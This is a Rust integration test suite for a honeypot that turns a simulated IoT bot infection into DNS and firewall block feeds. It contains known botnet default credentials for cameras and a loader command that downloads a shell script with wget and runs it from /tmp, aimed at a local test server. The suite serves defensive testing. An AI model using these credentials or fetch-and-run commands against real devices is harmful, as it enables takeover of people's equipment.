//! From a bot's log-in to a published countermeasure.

use crate::support::bot::Bot;
use crate::support::consumers::{Answer, Resolver, load_in_firewall};
use crate::support::program::Ukai;
use crate::support::specimen::{Contacts, elf_arm, loader_script};
use crate::support::wait_for;
use crate::support::web::FileServer;
use serde_json::Value;
use std::collections::HashMap;
use std::time::{Duration, Instant};

/// Credentials of the camera persona, tried in a bot's order.
pub(crate) const CAMERA_CREDENTIALS: &[(&str, &str)] =
    &[("admin", "7ujMko0admin"), ("root", "vizxv"), ("root", "xmhdipc")];

/// How long the whole circle is waited for, from the download's end to the device. (What it
/// takes is printed; the promise is five seconds on a machine that does nothing else.)
const LIMIT: Duration = Duration::from_mins(1);

/// A distribution server with a loader's script and a bot for it.
pub(crate) fn distribution_server(contacts: &Contacts) -> FileServer {
    let elf = elf_arm(contacts);
    FileServer::start(|base| {
        HashMap::from([
            ("/bins.sh".to_owned(), loader_script(base, &["bot.arm7", "bot.mips"]).into_bytes()),
            ("/bot.arm7".to_owned(), elf),
        ])
    })
}

/// A loader's dialogue: log-in, probes, download and start of the script.
pub(crate) fn infect(bot: &mut Bot, server: &FileServer) {
    bot.log_in(CAMERA_CREDENTIALS);
    for line in ["enable", "system", "shell", "sh"] {
        bot.say(line);
        bot.expect(&["# ", "$ ", "> "]);
    }
    assert!(bot.run("/bin/busybox ps").contains("init"), "a device has processes");
    assert!(bot.run("cat /proc/mounts").contains(" / "), "a device has mounts");
    let base = server.url();
    let output = bot.run(&format!("cd /tmp; wget {base}/bins.sh -O bins.sh && sh bins.sh"));
    assert!(output.contains("100%"), "the device shows the download: {output}");
}

#[test]
fn a_bots_contacts_reach_resolver_and_firewall_within_seconds() {
    let ukai = Ukai::start();
    let contacts = Contacts::unique("circle", 66);
    let server = distribution_server(&contacts);
    let mut loaded = ukai.get_text("/feeds/rpz.zone");
    let resolver = Resolver::start(&loaded);
    for name in contacts.names() {
        assert_eq!(resolver.ask(name), Answer::Exists, "{name} is unknown before");
    }

    let mut bot = Bot::connect(ukai.service("telnet", "camera-arm"));
    infect(&mut bot, &server);
    let served = server.served();
    let end = served.iter().find(|one| one.path == "/bot.arm7").expect("the bot was fetched").at;

    // A resolver's side: fetch the zone, load it when it changed, until it blocks.
    wait_for("the names in the resolver", LIMIT.saturating_sub(end.elapsed()), || {
        let zone = ukai.get_text("/feeds/rpz.zone");
        if zone != loaded {
            resolver.reload(&zone);
            loaded = zone;
        }
        contacts.names().all(|name| resolver.ask(name) == Answer::DoesNotExist).then_some(())
    });
    let resolver_after = end.elapsed();
    assert_eq!(resolver.ask("innocent.example"), Answer::Exists);
    assert_eq!(resolver.ask("example"), Answer::Exists);

    let folder = tempfile::TempDir::new().expect("a temporary folder");
    let file = folder.path().join("ukai.nft");
    wait_for("the addresses in the firewall", LIMIT.saturating_sub(end.elapsed()), || {
        let text = ukai.get_text("/feeds/nftables.nft");
        contacts.addresses().all(|address| text.contains(address.as_str())).then(|| {
            std::fs::write(&file, text).expect("the rules can be written");
        })
    });
    let ruleset = load_in_firewall(&file);
    let firewall_after = end.elapsed();
    for address in contacts.addresses() {
        assert!(ruleset.contains(address.as_str()), "{address} in the set:\n{ruleset}");
    }
    assert!(!ruleset.contains("192.0.2.53"), "nobody else is in the set");
    println!(
        "from the end of the download: resolver after {:.2} s, firewall after {:.2} s",
        resolver_after.as_secs_f64(),
        firewall_after.as_secs_f64()
    );

    evidence_leads_back(&ukai, &contacts);
    assert_eq!(ukai.terminate(), Some(0), "SIGTERM drains and exits with 0");
}

/// Each indicator leads back to sample, session and connection.
fn evidence_leads_back(ukai: &Ukai, contacts: &Contacts) {
    for name in contacts.names() {
        let found = ukai.get(&format!("/api/indicators?q={name}"));
        let indicator = &found["items"][0];
        assert_eq!(indicator["role"], "c2", "{found}");
        let page =
            ukai.get(&format!("/api/indicators/{}", indicator["id"].as_str().expect("an id")));
        let chain = page["chain"].as_array().expect("a chain");
        let sample =
            chain.iter().find_map(|link| link["evidence"]["sample"].as_str()).expect("a sample");
        let sample = ukai.get(&format!("/api/samples/{sample}"));
        let session = sample["sightings"][0]["session"].as_str().expect("a session");
        let session = ukai.get(&format!("/api/sessions/{session}"));
        assert_eq!(session["session"]["src_ip"], "127.0.0.1");
        assert_eq!(session["session"]["protocol"], "telnet");
    }
}

#[test]
fn nothing_is_lost_when_the_program_is_killed_after_a_download() {
    let ukai = Ukai::start();
    let contacts = Contacts::unique("killed", 67);
    let server = distribution_server(&contacts);
    infect(&mut Bot::connect(ukai.service("telnet", "camera-arm")), &server);
    let samples = wait_for("the samples", LIMIT, || {
        let items = ukai.get("/api/samples")["items"].as_array()?.clone();
        // Acknowledged is what came with the event that tells how it came.
        let acknowledged = |item: &&Value| item["sightings"].as_u64() > Some(0);
        (items.iter().filter(acknowledged).count() >= 2).then_some(items)
    });

    let ukai = ukai.kill_and_restart();
    for sample in &samples {
        let hash = sample["sha256"].as_str().expect("a hash");
        wait_for("the analysis", Duration::from_secs(20), || {
            let page = ukai.get(&format!("/api/samples/{hash}"));
            (!page["analyses"].as_array()?.is_empty()).then_some(())
        });
    }
    wait_for("the names in the feed", Duration::from_secs(20), || {
        let zone = ukai.get_text("/feeds/rpz.zone");
        contacts.names().all(|name| zone.contains(name.as_str())).then_some(())
    });
}

#[test]
fn feeds_are_byte_stable_and_answer_304() {
    let ukai = Ukai::start();
    let server = distribution_server(&Contacts::unique("stable", 68));
    infect(&mut Bot::connect(ukai.service("telnet", "camera-arm")), &server);
    wait_for("the feed", Duration::from_secs(20), || {
        ukai.get_text("/feeds/domains.txt").contains("hidden-stable.example").then_some(())
    });
    // The bot's close may still add evidence; wait until two readings agree.
    let before = wait_for("a quiet feed", Duration::from_secs(20), || {
        let first = ukai.get("/api/feeds");
        std::thread::sleep(Duration::from_millis(1500));
        (ukai.get("/api/feeds")["items"] == first["items"]).then_some(first)
    });
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(3) {
        std::thread::sleep(Duration::from_millis(500));
        assert_eq!(ukai.get("/api/feeds")["items"], before["items"], "nothing changed");
    }
    for feed in before["items"].as_array().expect("a list of feeds") {
        let (file, etag) =
            (feed["file"].as_str().expect("a file"), feed["etag"].as_str().expect("an ETag"));
        let output = std::process::Command::new("curl")
            .args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", "-H"])
            .arg(format!("Authorization: Bearer {}", ukai.token()))
            .arg("-H")
            .arg(format!("If-None-Match: {etag}"))
            .arg(format!("{}/feeds/{file}", ukai.url()))
            .output()
            .expect("curl runs");
        assert_eq!(String::from_utf8_lossy(&output.stdout), "304", "{file}");
    }
}
